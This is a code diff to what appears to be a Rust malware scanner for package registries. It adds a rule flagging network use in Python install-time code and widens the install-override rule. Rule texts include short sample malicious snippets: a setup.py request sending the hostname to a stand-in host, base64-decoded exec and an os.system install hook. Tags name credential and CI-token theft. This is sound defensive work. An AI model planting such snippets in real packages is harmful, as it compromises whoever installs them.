@@ -102,7 +102,7 @@ correlation!(
     Critical,
     InstallTime,
     Some("T1195.002"),
-    "A setup.py install, develop or egg_info command is overridden to run processes, network calls or dynamic code.",
+    "A setup.py install, develop or egg_info command is overridden to run processes, network calls, dynamic code, file writes or imported code.",
     "Overriding the install command is how PyPI malware runs its payload during `pip install`; honest packages customise build steps, not the install command, and rarely spawn programs from it.",
     "class PostInstall(install): def run(self): os.system('...'); install.run(self)"
 );
@@ -198,6 +198,17 @@ correlation!(
     "def load(b): exec(base64.b64decode(b))"
 );
 
+correlation!(
+    SETUP_NETWORK,
+    "correlate/setup-py-network",
+    High,
+    InstallTime,
+    Some("T1195.002"),
+    "A Python package's install-time code (setup.py, build backend, .pth) uses the network.",
+    "PyPI builds are meant to be offline and isolated, so honest setup.py files do not make requests; probes and droppers do, on every machine that runs pip install.",
+    "setup.py: urllib.request.urlopen('https://x.example/?h=' + socket.gethostname())"
+);
+
 pub static ALL: &[&RuleInfo] = &[
     &FUNCTION_DROPPER,
     &FUNCTION_RECON,
@@ -205,6 +216,7 @@ pub static ALL: &[&RuleInfo] = &[
     &EXFILTRATION,
     &RECON,
     &INSTALL_NETWORK,
+    &SETUP_NETWORK,
     &INSTALL_DOWNLOAD,
     &IMPORT_TIME_ACTION,
     &INSTALL_OVERRIDE,
@@ -254,6 +266,7 @@ pub fn evidence_tags(rule: &RuleInfo) -> &'static [&'static str] {
     match rule.id {
         id if id == EXFILTRATION.id => &["stealer", "env-dump", "credentials", "ci-tokens"],
         id if id == RECON.id || id == FUNCTION_RECON.id => &["sysinfo", "env-dump"],
+        id if id == SETUP_NETWORK.id => &["network"],
         id if id == FUNCTION_DROPPER.id => &["file-write", "process"],
         id if id == FUNCTION_DECODE_EXEC.id => &["exec", "decode"],
         id if id == INSTALL_PROCESS.id => &["process"],
@@ -316,16 +329,20 @@ pub fn correlations(signals: &FileSignals, context: &FileContext) -> Vec<&'stati
         out.push(&RECON);
     }
     if install && network {
-        out.push(if ecosystem == Some(Ecosystem::Npm) {
-            &INSTALL_DOWNLOAD
-        } else {
-            &INSTALL_NETWORK
+        out.push(match ecosystem {
+            Some(Ecosystem::Npm) => &INSTALL_DOWNLOAD,
+            Some(Ecosystem::PyPI) => &SETUP_NETWORK,
+            _ => &INSTALL_NETWORK,
         });
     }
     if import_network && !install {
         out.push(&IMPORT_TIME_ACTION);
     }
-    let acts = signals.has("process") || network || signals.has("exec");
+    let acts = signals.has("process")
+        || network
+        || signals.has("exec")
+        || signals.has("file-write")
+        || signals.has("deferred-import");
     if signals.has("install-override") && acts {
         out.push(&INSTALL_OVERRIDE);
     } else {
@@ -402,7 +419,7 @@ mod tests {
     #[test]
     fn the_same_capabilities_at_install_time_do() {
         let found = ids(&signals(&["network", "sysinfo"], &[]), Role::Install);
-        assert!(found.contains(&"correlate/install-time-network"));
+        assert!(found.contains(&"correlate/setup-py-network"));
         assert!(found.contains(&"correlate/host-data-and-network"));
     }
 
